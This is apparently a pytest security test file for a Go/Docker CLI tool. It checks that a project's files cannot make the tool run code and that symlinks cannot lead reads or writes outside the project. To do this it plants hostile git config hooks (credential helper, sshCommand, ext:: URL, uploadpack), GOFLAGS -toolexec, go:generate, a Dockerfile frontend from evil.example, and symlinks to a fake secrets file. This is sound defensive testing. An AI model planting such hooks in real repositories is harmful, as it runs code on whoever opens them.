"""A project's files run nothing, and lead no read and no write out of the project."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from tests.detect.support import program, write
from tests.security.disguises import USER, WORD, found_in
from tests.security.entrances import Place
from wizard.cli import run

READ_ONLY = (("detect",), ("detect", "--explain"), ("mirrors",), ("plan",), ("diff",),
             ("build-command",))  # fmt: skip
ALL = (*READ_ONLY, ("apply", "--yes"), ("undo",))


def command(place: Place, *argv: str) -> int:
    words = [*argv, "--project", str(place.project), "--timeout", "2"]
    return run(words, start_wizard=lambda session: 0, system=place.system)


def _trapped(place: Place, trace: Path) -> None:
    """Fill the project with everything that a careless tool would run."""
    trap = f": >{trace}"  # a builtin: there may be no touch on PATH
    hooks = "\n".join(
        f"\t{name} = {trap}" for name in ("fsmonitor", "sshCommand", "pager", "editor")
    )
    write(place.project, {
        "go.mod": "module git.corp.example/app\n\ngo 1.99\n\ntoolchain go1.99.9\n\n"
                  "require git.corp.example/lib v1.0.0\n",
        "go.work": "go 1.99\n\ntoolchain go1.99.9\n\nuse .\n",
        "go.env": f"GOFLAGS=-toolexec={place.project}/go\nGOTOOLCHAIN=go1.99.9\n",
        ".env": f"GOFLAGS=-toolexec={place.project}/go\n",
        ".envrc": f"{trap}\n",
        ".git/objects/none": "",
        ".git/refs/heads/none": "",
        "gen.go": f"package main\n\n//go:generate {trap}\n\nimport \"C\"\n\nfunc main() {{}}\n",
        "vendor/modules.txt": "# git.corp.example/lib v1.0.0\n## explicit\n",
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": f"[core]\n\trepositoryformatversion = 0\n{hooks}\n\thooksPath = .hooks\n"
                       f"[credential]\n\thelper = \"!{trap}\"\n"
                       f"[url \"ext::{trap} \"]\n\tinsteadOf = https://git.corp.example/\n"
                       f"[include]\n\tpath = ../included\n"
                       "[remote \"origin\"]\n\turl = https://git.corp.example/app.git\n"
                       f"\tuploadpack = {trap}\n",
        "included": f"[core]\n\tsshCommand = {trap}\n",
        ".gitattributes": "* filter=x diff=x\n",
        "Dockerfile": "# syntax=evil.example/frontend\nFROM golang:1.25\nCOPY . .\n"
                      "RUN go mod download\n",
    })  # fmt: skip
    for name in ("go", "git", "docker", "ip", "sh", "python3", "docker-buildx"):
        program(place.project, name, trap)
    for name in ("post-checkout", "pre-commit", "fsmonitor-watchman", "reference-transaction"):
        program(place.project / ".git" / "hooks", name, trap)
        program(place.project / ".hooks", name, trap)


@pytest.fixture
def recorded(place: Place, tmp_path: Path) -> Callable[[], list[str]]:
    """Return what was started: where, with which toolchain and flags."""
    record = tmp_path / "started"
    folder = Path(place.system.env["PATH"])
    for name in ("go", "git"):
        real = Path(sys.executable).with_name("go") if name == "go" else Path("/usr/bin/git")
        # A builtin each: nothing else is on PATH.
        program(
            folder,
            name,
            f'echo "{name} in $PWD with ${{GOTOOLCHAIN:-}} ${{GOFLAGS:-}}" >>"{record}"\n'
            f'exec "{real}" "$@"',
        )
    return lambda: record.read_text().splitlines() if record.exists() else []


def test_the_traps_go_off_where_a_tool_is_careless(place: Place, tmp_path: Path) -> None:
    trace = tmp_path / "trace-of-a-trap"
    _trapped(place, trace)
    careless = {**place.system.env, "PATH": str(place.project), "GIT_CONFIG_GLOBAL": "/dev/null"}
    subprocess.run(["/usr/bin/git", "status"], cwd=place.project, env=careless, check=False)
    assert trace.exists()
    trace.unlink()
    subprocess.run(["/bin/sh", "-c", "go env"], cwd=place.project, env=careless, check=False)
    assert trace.exists()


@pytest.mark.parametrize(
    "argv", [*READ_ONLY, ("check",), ("report",), ("apply", "--yes")], ids=" ".join
)
def test_a_projects_files_run_nothing(
    argv: tuple[str, ...], place: Place, tmp_path: Path, recorded: Callable[[], list[str]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    trace = tmp_path / "trace-of-a-trap"
    _trapped(place, trace)
    monkeypatch.chdir(place.project)
    command(place, *argv)
    assert not trace.exists()
    started = recorded()
    assert [line for line in started if str(place.project) in line] == []
    assert {line.partition(" with ")[2].split()[0] for line in started if line[:3] == "go "} <= {
        "local"
    }


LINKS = ("Dockerfile", ".dockerignore", "gomod-wizard.toml", "go.mod", "go.sum", "go.work",
         "vendor/modules.txt", ".git/config", "main.go")  # fmt: skip


@pytest.mark.parametrize("name", LINKS)
@pytest.mark.parametrize("argv", ALL, ids=" ".join)
def test_a_link_in_the_project_leads_nowhere_else(
    name: str,
    argv: tuple[str, ...],
    place: Place,
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
) -> None:
    victim = tmp_path / "elsewhere" / "secret"
    victim.parent.mkdir()
    victim.write_text(f"machine git.corp.example login {USER} password {WORD}\n{WORD}\n")
    before = (victim.read_bytes(), victim.stat().st_mode)
    link = place.project / name
    link.parent.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(victim)
    command(place, *argv, "--set", "mtu=1400")
    command(place, *argv, "-v", "--json")
    assert (victim.read_bytes(), victim.stat().st_mode) == before
    assert sorted(path.name for path in victim.parent.iterdir()) == ["secret"]
    out, err = capfd.readouterr()
    assert found_in((out + err).encode()) == []


def test_a_folder_swapped_for_a_link_is_not_written_through(place: Place, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    moved = place.project.rename(tmp_path / "moved")
    place.project.symlink_to(moved)
    (moved / "sub").symlink_to(outside)
    linked = replace(place, project=place.project)
    command(linked, "apply", "--yes")
    assert list(outside.iterdir()) == []
